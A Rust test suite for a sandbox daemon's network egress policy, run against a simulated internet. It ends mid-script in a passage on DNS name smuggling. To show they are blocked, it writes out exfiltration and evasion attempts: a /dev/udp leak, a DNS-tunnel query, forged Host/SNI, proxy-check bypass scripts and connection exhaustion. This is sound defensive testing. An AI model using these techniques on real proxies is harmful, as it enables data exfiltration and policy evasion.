//! Privileged: network egress policy, proven against a simulated internet built of
//! this test's own network namespaces (see `net_world/`). No traffic leaves them.
//!
//! Run: `cargo test -p sandlot --no-default-features --test net_egress` (root).

mod net_world;

use std::time::{Duration, Instant};

use net_world::{addr_of, rt, NetDaemon, World, DNS_ADDR, HOST_ADDR};
use sandlot_client::{Client, CreateSandbox};
use serde_json::{json, Value};

struct Out {
    code: i32,
    stdout: String,
    stderr: String,
}

async fn sh(c: &Client, id: &str, script: &str) -> Out {
    let o = c.run(id, &["/bin/sh", "-c", script]).await.unwrap();
    Out {
        code: o.exit.code.unwrap_or(-1),
        stdout: String::from_utf8_lossy(&o.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&o.stderr).into_owned(),
    }
}

async fn create(c: &Client, network: Value, world: &World) -> String {
    let mut spec = serde_json::Map::new();
    spec.insert("network".into(), network);
    let sb = c
        .create_sandbox(&CreateSandbox {
            spec,
            ..Default::default()
        })
        .await
        .unwrap();
    c.write_file_bytes(&sb.id, "/tmp/ca.pem", world.ca_pem())
        .await
        .unwrap();
    sb.id
}

const CURL: &str = "curl -sS -m 8 --cacert /tmp/ca.pem";

/// `curl` inside the sandbox: (exit code, body).
async fn curl(c: &Client, id: &str, args: &str) -> (i32, String) {
    let o = sh(c, id, &format!("{CURL} {args}")).await;
    (o.code, format!("{}{}", o.stdout, o.stderr))
}

/// A UDP datagram via bash's /dev/udp.
async fn udp(c: &Client, id: &str, ip: &str) {
    sh(
        c,
        id,
        &format!("bash -c 'echo leak > /dev/udp/{ip}/9999' 2>/dev/null; true"),
    )
    .await;
}

/// A DNS TXT query for `name` sent straight to `server` (a DNS tunnel's shape),
/// with the answer's rcode printed.
async fn dns_txt(c: &Client, id: &str, server: &str, name: &str) -> String {
    let py = format!(
        r#"
import socket, struct
q = struct.pack('>HHHHHH', 0x4242, 0x0100, 1, 0, 0, 0)
for l in '{name}'.split('.'):
    q += bytes([len(l)]) + l.encode()
q += b'\x00' + struct.pack('>HH', 16, 1)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(5)
s.sendto(q, ('{server}', 53))
r = s.recv(4096)
print('rcode', r[3] & 15, 'answers', struct.unpack('>H', r[6:8])[0])
"#
    );
    let o = sh(
        c,
        id,
        &format!("python3 -c \"{}\"", py.replace('"', "\\\"")),
    )
    .await;
    format!("{}{}", o.stdout, o.stderr)
}

/// Runs the Python `script` in sandbox `id` with `arg`; its exit code must be 0.
async fn python(c: &Client, id: &str, script: &str, arg: &str) -> Out {
    c.write_file_bytes(id, "/tmp/script.py", script.as_bytes().to_vec())
        .await
        .unwrap();
    let o = sh(c, id, &format!("python3 /tmp/script.py {arg}")).await;
    assert_eq!(o.code, 0, "{}{}", o.stdout, o.stderr);
    o
}

/// The `[isolation]` section giving sandboxes `isolation` by default.
fn isolation_config(isolation: &str) -> String {
    format!("[isolation]\ndefault = \"{isolation}\"\n")
}

fn server_of(body: &str) -> Option<&str> {
    body.split_whitespace()
        .find_map(|w| w.strip_prefix("server="))
}

/// Asserts the daemon left nothing: no slot namespaces, links or nft table.
fn assert_clean(world: &World, d: &NetDaemon) {
    let deadline = Instant::now() + Duration::from_secs(10);
    loop {
        let ns = d.slot_namespaces();
        let links = world.host_links();
        let tables = world.host_tables();
        if ns.is_empty() && links.is_empty() && !tables.contains("sandlot_") {
            return;
        }
        assert!(
            Instant::now() < deadline,
            "left behind: netns {ns:?}, links {links:?}, tables {tables:?}\n{}",
            d.log()
        );
        std::thread::sleep(Duration::from_millis(50));
    }
}

#[test]
fn allow_policy_holds_by_name_address_and_protocol() {
    allow_policy_holds_by_name_address_and_protocol_on("namespace");
}

#[test]
fn allow_policy_holds_by_name_address_and_protocol_on_gvisor() {
    allow_policy_holds_by_name_address_and_protocol_on("gvisor");
}

/// gVisor's network is the sandbox's slot: the same policy, the same audit log.
fn allow_policy_holds_by_name_address_and_protocol_on(isolation: &str) {
    let world = World::new();
    let mut d = NetDaemon::start(&world, &isolation_config(isolation));
    let rt = rt();
    let c = d.client();
    rt.block_on(async {
        // Bad rules are refused, naming the field.
        let mut spec = serde_json::Map::new();
        spec.insert(
            "network".into(),
            json!({"mode": "allow", "allow": [{"domain": "a.test"}, {"cidr": "10.99.1.0/24"}, {"domain": "*.com"}]}),
        );
        let e = c
            .create_sandbox(&CreateSandbox { spec, ..Default::default() })
            .await
            .unwrap_err();
        assert_eq!(e.status().map(|s| s.as_u16()), Some(400), "{e}");
        assert!(e.to_string().contains("network.allow[2].domain"), "{e}");
        let mut spec = serde_json::Map::new();
        spec.insert(
            "network".into(),
            json!({"mode": "allow", "allow": [{"cidr": "169.254.169.254"}]}),
        );
        let e = c
            .create_sandbox(&CreateSandbox { spec, ..Default::default() })
            .await
            .unwrap_err();
        assert!(e.to_string().contains("network.allow[0].cidr"), "{e}");

        let id = create(
            &c,
            json!({"mode": "allow", "allow": [
                {"domain": "allowed.test"},
                {"domain": "*.wild.test", "ports": [80]},
            ]}),
            &world,
        )
        .await;

        // The allowed name, over HTTP and HTTPS (certificate checked).
        let (code, body) = curl(&c, &id, "http://allowed.test/").await;
        assert_eq!((code, server_of(&body)), (0, Some("allowed.test")), "{body}");
        let (code, body) = curl(&c, &id, "https://allowed.test/").await;
        assert_eq!((code, server_of(&body)), (0, Some("allowed.test")), "{body}");

        // The denied name: by name (no DNS answer), by raw IP, with a forged Host,
        // with a forged SNI.
        let (code, body) = curl(&c, &id, "http://denied.test/").await;
        assert_eq!(code, 6, "name must not resolve: {body}");
        let denied_ip = addr_of("denied.test");
        let (code, body) = curl(&c, &id, &format!("http://{denied_ip}/")).await;
        assert_ne!(code, 0, "raw IP: {body}");
        let (code, body) = curl(&c, &id, &format!("-H 'Host: denied.test' http://{}/", addr_of("allowed.test"))).await;
        assert_ne!(code, 0, "forged Host: {body}");
        let (code, body) = curl(&c, &id, &format!("--resolve denied.test:443:{} https://denied.test/", addr_of("allowed.test"))).await;
        assert_ne!(code, 0, "forged SNI: {body}");
        let (code, body) = curl(&c, &id, &format!("--resolve denied.test:80:{denied_ip} http://denied.test/")).await;
        assert_ne!(code, 0, "own DNS answer for the denied name: {body}");
        // Faked DNS for an allowed name: the proxy resolves the name itself.
        let (code, body) = curl(&c, &id, &format!("--resolve allowed.test:80:{denied_ip} http://allowed.test/")).await;
        assert_eq!((code, server_of(&body)), (0, Some("allowed.test")), "faked DNS: {body}");
        // Fronting inside TLS reaches the allowed name's server only.
        let (code, body) = curl(&c, &id, "-H 'Host: denied.test' https://allowed.test/").await;
        assert_eq!((code, server_of(&body)), (0, Some("allowed.test")), "fronting: {body}");
        // UDP, IPv6, DNS tunnelling.
        udp(&c, &id, denied_ip).await;
        udp(&c, &id, addr_of("allowed.test")).await;
        let (code, body) = curl(&c, &id, "-6 'http://[fd00:ec2::254]/'").await;
        assert_ne!(code, 0, "IPv6: {body}");
        let v6 = sh(&c, &id, "cat /proc/net/if_inet6 2>/dev/null | wc -l").await;
        assert_eq!(v6.stdout.trim(), "0", "no IPv6 address in the sandbox");
        let t = dns_txt(&c, &id, DNS_ADDR, "c2VjcmV0.tunnel.denied.test").await;
        assert!(t.contains("rcode 3 answers 0"), "tunnel query must be NXDOMAIN: {t}");
        let t = dns_txt(&c, &id, "10.99.1.20", "c2VjcmV0.tunnel.denied.test").await;
        assert!(t.contains("rcode 3 answers 0"), "to any server: {t}");

        // Wildcards: subdomains on port 80 only; not the apex or lookalikes.
        let (code, body) = curl(&c, &id, "http://a.wild.test/").await;
        assert_eq!((code, server_of(&body)), (0, Some("a.wild.test")), "{body}");
        let (code, body) = curl(&c, &id, "http://b.a.wild.test/").await;
        assert_eq!((code, server_of(&body)), (0, Some("b.a.wild.test")), "{body}");
        let (code, _) = curl(&c, &id, "https://a.wild.test/").await;
        assert_ne!(code, 0, "port 443 is not in the wildcard rule");
        for n in ["wild.test", "notwild.test"] {
            let (code, body) = curl(&c, &id, &format!("http://{n}/")).await;
            assert_eq!(code, 6, "{n}: {body}");
        }

        // Root inside cannot change the network: no CAP_NET_ADMIN over the netns.
        let o = sh(&c, &id, "ip route del default 2>&1; ip addr add 10.99.1.99/16 dev eth0 2>&1; echo end").await;
        // (gVisor's kernel answers EACCES where Linux answers EPERM.)
        assert!(
            ["Operation not permitted", "Permission denied", "not found"]
                .iter()
                .any(|m| o.stdout.contains(m)),
            "{}",
            o.stdout
        );
        let r = sh(&c, &id, "cat /proc/net/route").await;
        assert!(r.stdout.contains("00000000"), "default route still there: {}", r.stdout);
        let low = sh(
            &c,
            &id,
            "python3 -c 'import os, socket; os.setgid(1000); os.setuid(1000); \
             socket.socket().bind((\"0.0.0.0\", 80)); print(\"bound\")'",
        )
        .await;
        assert_eq!(low.stdout.trim(), "bound", "ports below 1024 can be bound by any user: {}", low.stderr);

        // Live policy change: now only denied.test.
        let v = c
            .set_network(&id, &json!({"mode": "allow", "allow": [{"domain": "denied.test"}]}))
            .await
            .unwrap();
        assert_eq!(v["allow"][0]["domain"], "denied.test");
        let (code, body) = curl(&c, &id, "http://denied.test/").await;
        assert_eq!((code, server_of(&body)), (0, Some("denied.test")), "{body}");
        let (code, _) = curl(&c, &id, "http://allowed.test/").await;
        assert_ne!(code, 0, "allowed.test is no longer allowed");
        let e = c
            .set_network(&id, &json!({"mode": "allow", "allow": [{"domain": "Bad Name"}]}))
            .await
            .unwrap_err();
        assert!(e.to_string().contains("network.allow[0].domain"), "{e}");

        // The audit log has each attempt, with decisions and bytes.
        let log = c.network_log(&id, None, None).await.unwrap().entries;
        let has = |kind: &str, name: &str, decision: &str| {
            log.iter().any(|e| e.kind == kind && e.name.as_deref() == Some(name) && e.decision == decision)
        };
        assert!(has("dns", "allowed.test", "allowed"));
        assert!(has("dns", "denied.test", "denied"));
        assert!(has("dns", "c2vjcmv0.tunnel.denied.test", "denied"));
        assert!(has("tcp", "allowed.test", "allowed"));
        assert!(has("tcp", "denied.test", "denied"), "forged Host/SNI denied by name");
        assert!(has("tcp", "denied.test", "allowed"), "after the policy change");
        assert!(log.iter().any(|e| e.kind == "tcp"
            && e.name.as_deref() == Some(denied_ip)
            && e.decision == "denied"));
        let ok = log.iter().find(|e| e.kind == "tcp" && e.decision == "allowed").unwrap();
        assert!(ok.bytes_out > 0 && ok.bytes_in > 0, "{ok:?}");
        // And the CLI shows it.
        let (code, out, err) = d.cli(&["net", "log", &id, "--denied"]);
        assert_eq!(code, 0, "{err}");
        assert!(out.contains("denied.test") && out.contains("DECISION"), "{out}");
    });

    // What reached the world: never the denied server before the policy change,
    // never a UDP datagram, never a tunnelled query.
    let http = world.log("http");
    let denied_hits: Vec<_> = http
        .iter()
        .filter(|l| l.contains(" denied.test "))
        .collect();
    assert_eq!(
        denied_hits.len(),
        1,
        "only the request after the policy change: {http:?}"
    );
    assert!(
        world.log("udp").is_empty(),
        "UDP leaked: {:?}",
        world.log("udp")
    );
    let dns = world.log("dns");
    assert!(
        !dns.iter().any(|l| l.contains("tunnel")),
        "tunnel query leaked: {dns:?}"
    );
    assert!(
        !dns.iter()
            .any(|l| l.starts_with("wild.test") || l.starts_with("notwild.test")),
        "{dns:?}"
    );

    d.stop(&rt);
    assert_clean(&world, &d);
}

#[test]
fn none_has_no_route_and_open_stays_off_the_host_and_neighbours() {
    let world = World::new();
    let mut d = NetDaemon::start(&world, "");
    let rt = rt();
    let c = d.client();
    rt.block_on(async {
        let none = create(&c, json!({"mode": "none"}), &world).await;
        let r = sh(
            &c,
            &none,
            "tail -n +2 /proc/net/route | wc -l; cat /proc/net/dev",
        )
        .await;
        assert!(r.stdout.starts_with('0'), "no routes at all: {}", r.stdout);
        assert!(!r.stdout.contains("eth0"), "{}", r.stdout);
        let (code, body) = curl(&c, &none, &format!("http://{}/", addr_of("allowed.test"))).await;
        assert_eq!(code, 7, "network unreachable: {body}");
        let e = c
            .set_network(&none, &json!({"mode": "open"}))
            .await
            .unwrap_err();
        assert_eq!(e.status().map(|s| s.as_u16()), Some(409), "{e}");

        let open = create(&c, json!({"mode": "open"}), &world).await;
        let other = create(&c, json!({"mode": "open"}), &world).await;
        let (code, body) = curl(&c, &open, "http://allowed.test/").await;
        assert_eq!(
            (code, server_of(&body)),
            (0, Some("allowed.test")),
            "{body}"
        );
        let (code, body) = curl(&c, &open, "https://denied.test/").await;
        assert_eq!((code, server_of(&body)), (0, Some("denied.test")), "{body}");
        let other_ip = sh(
            &c,
            &other,
            "cat /etc/resolv.conf; ip -4 -o addr show dev eth0",
        )
        .await;
        let other_addr = other_ip
            .stdout
            .split_whitespace()
            .find_map(|w| w.strip_suffix("/30"))
            .expect("other sandbox address")
            .to_string();
        let gw = sh(&c, &open, "awk '/nameserver/ {print $2}' /etc/resolv.conf").await;
        let gw = gw.stdout.trim().to_string();
        for (what, target) in [
            ("the host", format!("{HOST_ADDR}:22")),
            ("the daemon", d.listen.clone()),
            ("the slot gateway", format!("{gw}:7990")),
            ("another sandbox", format!("{other_addr}:80")),
            ("metadata", "169.254.169.254:80".to_string()),
            ("a private range not allowed", "10.99.0.2:80".to_string()),
        ] {
            let (code, body) = curl(&c, &open, &format!("http://{target}/")).await;
            assert_ne!(code, 0, "{what} ({target}) must be unreachable: {body}");
        }
        let log = c.network_log(&open, None, None).await.unwrap().entries;
        for a in [
            HOST_ADDR,
            "169.254.169.254",
            other_addr.as_str(),
            gw.as_str(),
        ] {
            assert!(
                log.iter()
                    .any(|e| e.addr.as_deref() == Some(a) && e.decision == "denied"),
                "{a} not logged as denied: {log:#?}"
            );
        }
        udp(&c, &open, addr_of("allowed.test")).await;
    });
    assert!(world.log("udp").is_empty(), "UDP leaked in open mode");
    d.stop(&rt);
    assert_clean(&world, &d);
}

#[test]
fn a_restarted_daemon_keeps_the_slots_and_policies_of_its_sandboxes() {
    let world = World::new();
    let mut d = NetDaemon::start(&world, "");
    let rt = rt();
    let id = rt.block_on(async {
        let c = d.client();
        let id = create(
            &c,
            json!({"mode": "allow", "allow": [{"domain": "allowed.test"}]}),
            &world,
        )
        .await;
        let (code, body) = curl(&c, &id, "http://allowed.test/").await;
        assert_eq!(
            (code, server_of(&body)),
            (0, Some("allowed.test")),
            "{body}"
        );
        id
    });
    let before = d.slot_namespaces();
    assert!(
        before.len() >= 2,
        "the claimed slot and the pool: {before:?}"
    );
    d.kill9();
    // While the daemon is down its table stays (fail closed: slots reach nothing).
    assert!(
        world.host_tables().contains("sandlot_sn"),
        "{}",
        world.host_tables()
    );
    let mut d = NetDaemon::start(&world, "");
    rt.block_on(async {
        let c = d.client();
        let (code, body) = curl(&c, &id, "http://allowed.test/").await;
        assert_eq!(
            (code, server_of(&body)),
            (0, Some("allowed.test")),
            "after restart: {body}"
        );
        let (code, _) = curl(&c, &id, &format!("http://{}/", addr_of("denied.test"))).await;
        assert_ne!(code, 0, "still denied after restart");
        let p = c.get_network(&id).await.unwrap();
        assert_eq!(p["allow"][0]["domain"], "allowed.test");
    });
    // Unclaimed slots of the killed daemon were deleted; the sandbox's was kept.
    let after = d.slot_namespaces();
    let kept: Vec<_> = before.iter().filter(|n| after.contains(n)).collect();
    assert_eq!(kept.len(), 1, "before {before:?}, after {after:?}");
    d.stop(&rt);
    assert_clean(&world, &d);
}

/// Opens `n` connections to `ip:7000` (a server that never answers nor closes) and
/// holds those the proxy keeps; writes how many to /tmp/held, then sleeps.
const HOLD_PY: &str = r#"
import os, socket, sys, time
n, ip = int(sys.argv[1]), sys.argv[2]
held = []
for _ in range(n):
    s = socket.socket()
    s.settimeout(2)
    try:
        s.connect((ip, 7000))
        held.append(s)
    except OSError:
        s.close()
time.sleep(1)
alive = []
for s in held:
    s.setblocking(False)
    try:
        s.recv(1)
    except BlockingIOError:
        alive.append(s)
    except OSError:
        pass
held = alive
with open('/tmp/held.tmp', 'w') as f:
    f.write(str(len(held)))
os.rename('/tmp/held.tmp', '/tmp/held')
time.sleep(3600)
"#;

fn metric(text: &str, line_start: &str) -> u64 {
    text.lines()
        .find(|l| l.starts_with(line_start))
        .and_then(|l| l.rsplit(' ').next())
        .and_then(|v| v.parse().ok())
        .unwrap_or_else(|| panic!("no {line_start} in\n{text}"))
}

#[test]
fn a_sandbox_holding_connections_open_cannot_exhaust_the_daemon() {
    let world = World::new();
    // Low caps keep the attack short; a one-second linger after a side's FIN.
    let mut d = NetDaemon::start(
        &world,
        "max_connections_per_sandbox = 40\nmax_connections_per_tenant = 60\nhalf_close_timeout = \"1s\"\n",
    );
    let rt = rt();
    let c = d.client();
    let victim = d.client().with_tenant(Some("victim".into()));
    rt.block_on(async {
        let hostile = create(&c, json!({"mode": "open"}), &world).await;
        c.write_file_bytes(&hostile, "/tmp/hold.py", HOLD_PY.as_bytes().to_vec())
            .await
            .unwrap();
        let before = d.open_files();
        let before_targets = d.open_file_targets();
        // Two thousand connections to a server that never closes them.
        let target = addr_of("allowed.test");
        let o = sh(
            &c,
            &hostile,
            &format!("python3 /tmp/hold.py 2000 {target} >/tmp/hold.log 2>&1 & echo $! > /tmp/hold.pid"),
        )
        .await;
        assert_eq!(o.code, 0, "{}", o.stderr);
        let deadline = Instant::now() + Duration::from_secs(60);
        let held = loop {
            let r = sh(&c, &hostile, "cat /tmp/held 2>/dev/null; cat /tmp/hold.log").await;
            if let Ok(n) = r.stdout.trim().parse::<usize>() {
                break n;
            }
            assert!(Instant::now() < deadline, "the hold script did not finish: {}", r.stdout);
            tokio::time::sleep(Duration::from_millis(200)).await;
        };
        assert_eq!(held, 40, "network.max_connections_per_sandbox");
        // Two descriptors per held connection, and no more than the cap allows (the
        // daemon's stocks and pools move its count by a few on their own).
        let during = d.open_files();
        assert!(
            during >= before + 2 * 40 - 10 && during <= before + 2 * 40 + 10,
            "the daemon holds {during} descriptors, {before} before the attack"
        );

        // Another tenant creates, runs commands and reaches the internet meanwhile.
        let other = create(&victim, json!({"mode": "open"}), &world).await;
        let (code, body) = curl(&victim, &other, "http://allowed.test/").await;
        assert_eq!((code, server_of(&body)), (0, Some("allowed.test")), "{body}");
        let o = sh(&victim, &other, "echo alive").await;
        assert_eq!(o.stdout, "alive\n");
        // (Its own descriptors go with it, for the count below.)
        victim.delete_sandbox(&other).await.unwrap();

        // The refusals are in the hostile sandbox's audit log and in the metrics.
        let log = c.network_log(&hostile, None, None).await.unwrap().entries;
        let refusals: Vec<_> = log
            .iter()
            .filter(|e| e.kind == "tcp" && e.decision == "denied" && e.reason.starts_with("limit:"))
            .collect();
        assert!(!refusals.is_empty(), "{log:#?}");
        assert!(
            refusals[0].reason.contains("network.max_connections_per_sandbox = 40"),
            "{:?}",
            refusals[0]
        );
        assert_eq!(refusals[0].addr.as_deref(), Some(target));
        let m = c.metrics().await.unwrap();
        assert!(
            metric(&m, "sandlot_egress_refused_total{kind=\"tcp\",limit=\"sandbox\"}") >= 1900,
            "{m}"
        );
        assert!(metric(&m, "sandlot_egress_connections_open") >= 40);

        // The process dies (the sandbox lives on): the daemon's descriptors come back
        // within half_close_timeout, though the server never closes its side.
        let k = sh(&c, &hostile, "kill -9 $(cat /tmp/hold.pid)").await;
        assert_eq!(k.code, 0, "{}", k.stderr);
        // (Connections still queued when the process died are admitted late and end
        // the same way.)
        let deadline = Instant::now() + Duration::from_secs(15);
        loop {
            let now = d.open_files();
            let m = c.metrics().await.unwrap();
            let open = metric(&m, "sandlot_egress_connections_open");
            let held = metric(&m, "sandlot_descriptors_held{use=\"egress\"}");
            if now <= before + 10 && open == 0 && held == 0 {
                eprintln!("daemon descriptors: {before} before, {during} while held, {now} after the process died");
                assert!(
                    metric(&m, "sandlot_egress_closed_total{reason=\"half_closed\"}") >= 39,
                    "{m}"
                );
                break;
            }
            assert!(
                Instant::now() < deadline,
                "the daemon still holds {now} descriptors ({before} before the attack), \
                 {open} proxied connections, {held} egress descriptors:\n{:?}\nbefore:\n{before_targets:?}",
                d.open_file_targets()
            );
            tokio::time::sleep(Duration::from_millis(200)).await;
        }
        // And the sandbox can connect again.
        let (code, body) = curl(&c, &hostile, "http://allowed.test/").await;
        assert_eq!((code, server_of(&body)), (0, Some("allowed.test")), "{body}");
    });
    d.stop(&rt);
    assert_clean(&world, &d);
}

/// The attack: a sandbox asks for a denied name in a tight loop (each denial takes the
/// proxy microseconds, each used to be a database row under the store lock). Its audit
/// log stays within the per-sandbox budget, a later entry says how many were left out,
/// and the metrics count them.
#[test]
fn a_sandbox_retrying_a_denied_name_cannot_flood_the_audit_log() {
    let world = World::new();
    let mut d = NetDaemon::start(&world, "");
    let rt = rt();
    let c = d.client();
    rt.block_on(async {
        let id = create(
            &c,
            json!({"mode": "allow", "allow": [{"domain": "allowed.test"}]}),
            &world,
        )
        .await;
        let ip = addr_of("denied.test");
        let script = format!(
            r#"
import socket, time
t = time.time()
n = 0
while n < 3000 and time.time() - t < 20:
    s = socket.create_connection(('{ip}', 80), timeout=5)
    try:
        s.sendall(b'GET / HTTP/1.1\r\nHost: denied.test\r\n\r\n')
        s.recv(100)
    except OSError:
        pass
    s.close()
    n += 1
print(n, round(time.time() - t, 2))
"#
        );
        let o = c.run(&id, &["python3", "-c", &script]).await.unwrap();
        let out = String::from_utf8_lossy(&o.stdout).to_string();
        assert_eq!(
            o.exit.code,
            Some(0),
            "{out}{}",
            String::from_utf8_lossy(&o.stderr)
        );
        let mut it = out.split_whitespace();
        let attempts: u64 = it.next().unwrap().parse().unwrap();
        let secs: f64 = it.next().unwrap().parse().unwrap();
        tokio::time::sleep(Duration::from_millis(500)).await;
        let mut entries = Vec::new();
        let mut after = None;
        loop {
            let page = c.network_log(&id, after, Some(1000)).await.unwrap().entries;
            let Some(last) = page.last() else { break };
            after = Some(last.seq);
            entries.extend(page);
        }
        let denied = entries
            .iter()
            .filter(|e| e.kind == "tcp" && e.decision == "denied")
            .count() as u64;
        eprintln!(
            "{attempts} attempts in {secs} s, {} audit entries ({denied} tcp denials)",
            entries.len()
        );
        // The budget: 200 at once and 50 a second (plus a second of slack for the clock).
        let budget = 200 + (50.0 * (secs + 2.0)) as u64;
        assert!(
            attempts > budget,
            "the loop was too slow to test the limit: {attempts} in {secs} s"
        );
        assert!(
            entries.len() as u64 <= budget,
            "{} entries for {attempts} attempts",
            entries.len()
        );
        assert!(
            denied >= 200,
            "the first denials are logged one by one: {denied}"
        );
        assert!(
            entries
                .iter()
                .any(|e| e.reason.contains("were not logged (audit rate limit)")),
            "no entry says how many were left out"
        );
        let m = c.metrics().await.unwrap();
        let dropped = metric(&m, "sandlot_egress_audit_dropped_total");
        assert!(
            dropped + entries.len() as u64 >= attempts,
            "{dropped} dropped, {} logged, {attempts} attempts",
            entries.len()
        );
        c.delete_sandbox(&id).await.unwrap();
    });
    d.stop(&rt);
    assert_clean(&world, &d);
}

#[test]
fn open_policy_with_deny_rules_refuses_what_they_name() {
    open_policy_with_deny_rules_refuses_what_they_name_on("namespace");
}

#[test]
fn open_policy_with_deny_rules_refuses_what_they_name_on_gvisor() {
    open_policy_with_deny_rules_refuses_what_they_name_on("gvisor");
}

/// Mode `open` with deny rules, natively: a denied name gets no DNS answer (the
/// world's DNS server never sees the query) and its TLS SNI is reset at any
/// address; a denied CIDR is refused; other destinations are reached; the name's
/// literal address is not stopped (what a name deny does not cover); the host and
/// private ranges stay off limits; a deny rule in mode `allow` is a 400.
fn open_policy_with_deny_rules_refuses_what_they_name_on(isolation: &str) {
    let world = World::new();
    let mut d = NetDaemon::start(&world, &isolation_config(isolation));
    let rt = rt();
    let c = d.client();
    rt.block_on(async {
        let mut spec = serde_json::Map::new();
        spec.insert(
            "network".into(),
            json!({"mode": "allow", "deny": [{"domain": "allowed.test"}]}),
        );
        let e = c
            .create_sandbox(&CreateSandbox {
                spec,
                ..Default::default()
            })
            .await
            .unwrap_err();
        assert_eq!(e.status().map(|s| s.as_u16()), Some(400), "{e}");
        assert!(e.to_string().contains("network.deny"), "{e}");

        let id = create(
            &c,
            json!({"mode": "open", "deny": [
                {"domain": "allowed.test"},
                {"cidr": addr_of("a.wild.test")},
            ]}),
            &world,
        )
        .await;
        let (code, body) = curl(&c, &id, "http://denied.test/").await;
        assert_eq!(code, 0, "not denied: {body}");
        assert_eq!(server_of(&body), Some("denied.test"), "{body}");
        let (code, body) = curl(&c, &id, "https://allowed.test/").await;
        assert_ne!(code, 0, "a denied name does not resolve: {body}");
        assert!(
            !world.log("dns").iter().any(|l| l.contains("allowed.test")),
            "the denied name's query left the host: {:?}",
            world.log("dns")
        );
        let allowed_ip = addr_of("allowed.test");
        let (code, body) = curl(
            &c,
            &id,
            &format!("--resolve allowed.test:443:{allowed_ip} https://allowed.test/"),
        )
        .await;
        assert_ne!(code, 0, "a denied name's TLS SNI is reset: {body}");
        let (code, body) = curl(
            &c,
            &id,
            &format!(
                "--resolve allowed.test:80:{} http://allowed.test/",
                addr_of("denied.test")
            ),
        )
        .await;
        assert_ne!(code, 0, "a denied name's Host at another address: {body}");
        let (code, body) = curl(&c, &id, &format!("http://{allowed_ip}/")).await;
        assert_eq!(code, 0, "its literal address carries no name: {body}");
        let (code, body) = curl(&c, &id, "http://a.wild.test/").await;
        assert_ne!(code, 0, "a denied CIDR: {body}");
        let (code, body) = curl(&c, &id, &format!("http://{HOST_ADDR}:7990/v1/health")).await;
        assert_ne!(code, 0, "the host stays off limits: {body}");
        let (code, log, err) = d.cli(&["net", "log", &id, "--denied"]);
        assert_eq!(code, 0, "{err}");
        assert!(log.contains("a deny rule names allowed.test:443"), "{log}");
        assert!(
            log.contains(&format!("a deny rule names {}:80", addr_of("a.wild.test"))),
            "{log}"
        );
        c.delete_sandbox(&id).await.unwrap();
    });
    drop(c);
    d.stop(&rt);
    assert_clean(&world, &d);
}

/// Tries to slip a denied name past the proxy's name check at `ADDR` (another
/// server's address): a request with bare LF line ends, one with leading empty
/// lines, one paused mid-header, a ClientHello paused after its record header, a
/// ClientHello longer than 16 KiB with the SNI at its end, and a request cut short
/// by closing the sending half. Prints `CASE through` when the server answered,
/// `CASE reset` otherwise.
const DODGE_PY: &str = r#"
import socket, ssl, struct, sys, time
ADDR = sys.argv[1]

def hello(name):
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    i, o = ssl.MemoryBIO(), ssl.MemoryBIO()
    t = ctx.wrap_bio(i, o, server_hostname=name)
    try:
        t.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return o.read()

def padded(rec, pad):
    # Insert a padding extension first, so the SNI lands past the first 16 KiB.
    hs = rec[5:]
    body = hs[4:]
    i = 2 + 32
    i += 1 + body[i]
    i += 2 + struct.unpack('>H', body[i:i + 2])[0]
    i += 1 + body[i]
    n = struct.unpack('>H', body[i:i + 2])[0]
    ext = struct.pack('>HH', 21, pad) + bytes(pad)
    body = body[:i] + struct.pack('>H', n + len(ext)) + ext + body[i + 2:]
    hs = b'\x01' + struct.pack('>I', len(body))[1:] + body
    out = b''
    for k in range(0, len(hs), 16384):
        part = hs[k:k + 16384]
        out += b'\x16\x03\x01' + struct.pack('>H', len(part)) + part
    return out

def attempt(case, port, parts, half_close=False):
    s = socket.create_connection((ADDR, port), timeout=8)
    got = b''
    try:
        for p in parts:
            if p is None:
                time.sleep(1.5)
            else:
                s.sendall(p)
        if half_close:
            s.shutdown(socket.SHUT_WR)
        got = s.recv(4096)
    except OSError:
        pass
    s.close()
    print(case, 'through' if got else 'reset', flush=True)

req = b'GET / HTTP/1.1\nHost: allowed.test\n\n'
attempt('bare-lf', 80, [req])
attempt('leading-crlf', 80, [b'\r\n' + req.replace(b'\n', b'\r\n')])
attempt('paused-http', 80, [b'GET / HTTP/1.1\r\nHo', None, b'st: allowed.test\r\n\r\n'])
attempt('half-closed-http', 80, [b'GET / HTTP/1.1\r\nHost: allowed.test\r\n'], half_close=True)
ch = hello('allowed.test')
attempt('paused-tls', 443, [ch[:5], None, ch[5:]])
attempt('large-tls', 443, [padded(ch, 17 * 1024)])
attempt('plain-http', 80, [b'GET / HTTP/1.1\r\nHost: denied.test\r\n\r\n'])
"#;

/// Mode `open` with a deny name rule: no opening that begins like TLS or HTTP
/// reaches a server without its name being read and checked; a name that is not
/// denied still goes through the same way.
#[test]
fn a_denied_name_cannot_slip_past_the_name_check() {
    let world = World::new();
    let mut d = NetDaemon::start(&world, "");
    let rt = rt();
    let c = d.client();
    rt.block_on(async {
        let id = create(
            &c,
            json!({"mode": "open", "deny": [{"domain": "allowed.test"}]}),
            &world,
        )
        .await;
        let o = python(&c, &id, DODGE_PY, addr_of("denied.test")).await;
        for case in [
            "bare-lf",
            "leading-crlf",
            "paused-http",
            "half-closed-http",
            "paused-tls",
            "large-tls",
        ] {
            assert!(
                o.stdout.contains(&format!("{case} reset\n")),
                "{case} got through:\n{}",
                o.stdout
            );
        }
        assert!(
            o.stdout.contains("plain-http through\n"),
            "a name no rule denies: {}",
            o.stdout
        );
        assert!(
            !world
                .log("http")
                .iter()
                .any(|l| l.contains("host=allowed.test")),
            "a request for the denied name arrived: {:?}",
            world.log("http")
        );
        c.delete_sandbox(&id).await.unwrap();
    });
    drop(c);
    d.stop(&rt);
    assert_clean(&world, &d);
}

/// Opens a connection to `ADDR` naming a server under `*.wild.test` whose first
/// label is 262 bytes: written into a DNS question with its length cut to a byte
/// (6), it asks for `denied.test` and carries the rest as trailing bytes, which
/// resolvers such as BIND (and this world's) ignore.
const SMUGGLE_PY: &str = r#"
import socket, struct, sys
ADDR = sys.argv[1]
label = b'denied' + b'\x04test\x00' + struct.pack('>HH', 1, 1)
label += b'x' * (262 - len(label))
name = label + b'.wild.test'

def client_hello(n):
    sni = struct.pack('>BH', 0, len(n)) + n
    sni = struct.pack('>H', len(sni)) + sni
    exts = struct.pack('>HH', 0, len(sni)) + sni
